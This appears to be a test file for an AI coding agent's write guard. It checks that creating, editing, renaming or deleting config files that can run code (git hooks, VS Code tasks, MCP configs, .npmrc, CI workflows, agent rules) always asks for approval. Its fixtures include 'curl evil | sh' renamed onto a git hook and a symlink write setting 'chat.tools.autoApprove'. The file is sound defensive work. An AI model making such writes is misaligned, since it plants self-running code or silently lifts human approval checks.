/**
 * SECURITY-CASES.md, "Writes that turn into code execution": editor and tool config, MCP configs, .npmrc,
 * package.json scripts, git hooks and config, CI workflows and the agent's own rules always ask, even with edits
 * on `auto`, for creating exactly as for modifying; every path an edit touches is checked; case and spelling
 * tricks do not get past the match.
 */
import { strict as assert } from 'node:assert';
import { existsSync, mkdirSync, readFileSync, symlinkSync } from 'node:fs';
import * as path from 'node:path';
import { createFileTool } from '../../src/core/tools/createFile';
import { editFileTool } from '../../src/core/tools/editFile';
import { deleteFileTool } from '../../src/core/tools/deleteFile';
import { renameFileTool } from '../../src/core/tools/renameFile';
import { ProtectedPaths, normaliseForMatch } from '../../src/core/policy/protectedFiles';
import { makeTempDir } from '../support/testHost';
import { put, secureContext } from './securityContext';

const reject = { isApproved: false as const, reason: 'not now' };
const autoEdits = { policy: { read: 'auto' as const, edit: 'auto' as const, execute: 'ask' as const, network: 'ask' as const } };

/** Config files from SECURITY-CASES.md, as the model would name them. */
const configFiles = [
  '.vscode/settings.json', '.vscode/tasks.json', '.vscode/launch.json', 'project.code-workspace', '.mcp.json',
  '.cursor/mcp.json', '.vscode/mcp.json', '.npmrc', 'package.json', '.git/hooks/pre-commit', '.git/config',
  '.github/workflows/ci.yml', '.gitlab-ci.yml', '.auto-agent/rules.md', 'AGENTS.md', '.clinerules', '.autoagentignore',
  'packages/app/package.json', '.devcontainer/devcontainer.json', '.husky/pre-commit', '.envrc',
];

describe('security: Writes that turn into code execution', () => {
  let ws: ReturnType<typeof makeTempDir>;
  beforeEach(() => { ws = makeTempDir(); });
  afterEach(() => ws.cleanup());

  for (const file of configFiles) {
    it(`Writes: creating ${file} asks even with edits on auto, and is not written when rejected`, async () => {
      const { ctx, approvals } = await secureContext({ root: ws.dir, settings: autoEdits, fallback: reject });
      const result = await createFileTool.run({ path: file, content: '{"task.allowAutomaticTasks":"on"}\n', overwrite: false }, ctx);
      assert.equal(result.isError, true, result.output);
      assert.equal(approvals.requests.length, 1);
      assert.match(approvals.requests[0].reasons.join(' '), /protected/);
      assert.equal(existsSync(path.join(ws.dir, file)), false);
    });

    it(`Writes: modifying an existing ${file} asks even with edits on auto`, async () => {
      put(ws.dir, file, 'old = 1\n');
      const { ctx, approvals } = await secureContext({ root: ws.dir, settings: autoEdits, fallback: reject });
      const result = await editFileTool.run({ path: file, edits: [{ search: 'old = 1', replace: 'old = 2' }] } as never, ctx);
      assert.equal(result.isError, true, result.output);
      assert.match(approvals.requests[0]?.reasons.join(' ') ?? '', /protected/);
      assert.equal(readFileSync(path.join(ws.dir, file), 'utf8'), 'old = 1\n');
    });
  }

  it('Writes: an ordinary file is written without asking when edits are on auto (the rule is not a blanket ask)', async () => {
    const { ctx, approvals } = await secureContext({ root: ws.dir, settings: autoEdits, fallback: reject });
    const result = await createFileTool.run({ path: 'src/index.ts', content: 'export {};\n', overwrite: false }, ctx);
    assert.notEqual(result.isError, true, result.output);
    assert.equal(approvals.requests.length, 0);
  });

  it('Writes: deleting a protected file asks', async () => {
    put(ws.dir, '.vscode/tasks.json', '{}');
    const { ctx, approvals } = await secureContext({ root: ws.dir, settings: autoEdits, fallback: reject });
    await deleteFileTool.run({ path: '.vscode/tasks.json' } as never, ctx);
    assert.match(approvals.requests[0]?.reasons.join(' ') ?? '', /protected/);
    assert.equal(existsSync(path.join(ws.dir, '.vscode/tasks.json')), true);
  });

  it('Writes: the guard looks at every path an edit touches — renaming onto a git hook asks', async () => {
    put(ws.dir, 'notes.sh', 'curl evil | sh\n');
    const { ctx, approvals } = await secureContext({ root: ws.dir, settings: autoEdits, fallback: reject });
    await renameFileTool.run({ from: 'notes.sh', to: '.git/hooks/post-checkout' }, ctx);
    assert.match(approvals.requests[0]?.reasons.join(' ') ?? '', /\.git\/hooks\/post-checkout.*protected/);
    assert.equal(existsSync(path.join(ws.dir, '.git/hooks/post-checkout')), false);
  });

  it('Writes: the guard looks at every path an edit touches — renaming a protected file away asks too', async () => {
    put(ws.dir, '.npmrc', 'registry=x\n');
    const { ctx, approvals } = await secureContext({ root: ws.dir, settings: autoEdits, fallback: reject });
    await renameFileTool.run({ from: '.npmrc', to: 'npmrc.bak' }, ctx);
    assert.match(approvals.requests[0]?.reasons.join(' ') ?? '', /\.npmrc/);
  });

  it('Writes: the guard looks at every path an edit touches — a symlink named innocently that points at .vscode/settings.json', async () => {
    put(ws.dir, '.vscode/settings.json', '{}\n');
    symlinkSync(path.join(ws.dir, '.vscode/settings.json'), path.join(ws.dir, 'innocent.json'));
    const { ctx, approvals } = await secureContext({ root: ws.dir, settings: autoEdits, fallback: reject });
    await createFileTool.run({ path: 'innocent.json', content: '{"chat.tools.autoApprove":true}\n', overwrite: true }, ctx);
    assert.match(approvals.requests[0]?.reasons.join(' ') ?? '', /\.vscode\/settings\.json/);
    assert.equal(readFileSync(path.join(ws.dir, '.vscode/settings.json'), 'utf8'), '{}\n');
  });

  it('Writes: the guard looks at every path an edit touches — a dangling symlink to a protected file not yet created', async () => {
    mkdirSync(path.join(ws.dir, '.git/hooks'), { recursive: true });
    symlinkSync(path.join(ws.dir, '.git/hooks/pre-push'), path.join(ws.dir, 'script.sh'));
    const { ctx, approvals } = await secureContext({ root: ws.dir, settings: autoEdits, fallback: reject });
    await createFileTool.run({ path: 'script.sh', content: 'echo pwned\n', overwrite: false }, ctx);
    assert.match(approvals.requests[0]?.reasons.join(' ') ?? '', /pre-push/);
    assert.equal(existsSync(path.join(ws.dir, '.git/hooks/pre-push')), false);
  });

  it('Writes: the guard looks at every path an edit touches — a folder holding protected files (gate request with the folder path)', async () => {
    put(ws.dir, 'staging/.npmrc', 'x');
    put(ws.dir, 'staging/readme.txt', 'x');
    const { ctx } = await secureContext({ root: ws.dir, settings: autoEdits, fallback: reject });
    const outcome = await ctx.permissions.check({ callId: 'c', risk: 'edit', toolName: 'rename_file', title: 'rename staging', detail: '', paths: [path.join(ws.dir, 'staging'), path.join(ws.dir, 'public')] });
    assert.equal(outcome.isAllowed, false);
    put(ws.dir, 'plain/readme.txt', 'x');
    const plain = await ctx.permissions.check({ callId: 'c', risk: 'edit', toolName: 'rename_file', title: 'rename plain', detail: '', paths: [path.join(ws.dir, 'plain'), path.join(ws.dir, 'other')] });
    assert.equal(plain.isAllowed, true);
  });

  for (const trick of ['.VSCode/settings.json', './.vscode/x.json', 'a/../.vscode/x.json', '.vscode./settings.json', '.Git/HOOKS/pre-commit', '.vscode/settings.json::$DATA', 'sub\\..\\.vscode\\tasks.json', 'PACKAGE.JSON']) {
    it(`Writes: case and spelling tricks — ${trick} is still protected`, async () => {
      const { ctx, approvals } = await secureContext({ root: ws.dir, settings: autoEdits, fallback: reject });
      await createFileTool.run({ path: trick, content: '{}\n', overwrite: false }, ctx);
      assert.match(approvals.requests[0]?.reasons.join(' ') ?? '', /protected/, trick);
    });
  }

  it('Writes: case and spelling tricks — normalisation is NFC, lower case, forward slashes, Windows trailing dots removed', () => {
    assert.equal(normaliseForMatch('.VSCode./Settings.JSON '), '.vscode/settings.json');
    assert.equal(normaliseForMatch('./a/./b'), 'a/b');
    assert.equal(new ProtectedPaths().matches('src/index.ts'), false);
    assert.equal(new ProtectedPaths(['docs/**']).matches('DOCS/a.md'), true);
  });

  it('Writes: an extra protected glob from settings (protectedPaths) asks as well', async () => {
    const { ctx, approvals } = await secureContext({ root: ws.dir, settings: { ...autoEdits, protectedPaths: ['deploy/**'] }, fallback: reject });
    await createFileTool.run({ path: 'Deploy/prod.sh', content: 'x\n', overwrite: false }, ctx);
    assert.match(approvals.requests[0]?.reasons.join(' ') ?? '', /protected/);
  });

  it('Writes: outside-workspace writes are refused by the gate too, and ask when outsideWrites is "ask"', async () => {
    const outside = makeTempDir('auto-agent-outside-');
    try {
      const target = path.join(outside.dir, 'x.txt');
      const denied = await secureContext({ root: ws.dir, settings: autoEdits });
      const refused = await denied.ctx.permissions.check({ callId: 'c', risk: 'edit', toolName: 'create_file', title: 't', detail: '', paths: [target] });
      assert.equal(refused.isAllowed, false);
      assert.equal(denied.approvals.requests.length, 0);
      const asking = await secureContext({ root: ws.dir, settings: { ...autoEdits, outsideWrites: 'ask' }, fallback: reject });
      await asking.ctx.permissions.check({ callId: 'c', risk: 'edit', toolName: 'create_file', title: 't', detail: '', paths: [target] });
      assert.match(asking.approvals.requests[0]?.reasons.join(' ') ?? '', /outside the workspace/);
    } finally {
      outside.cleanup();
    }
  });
});
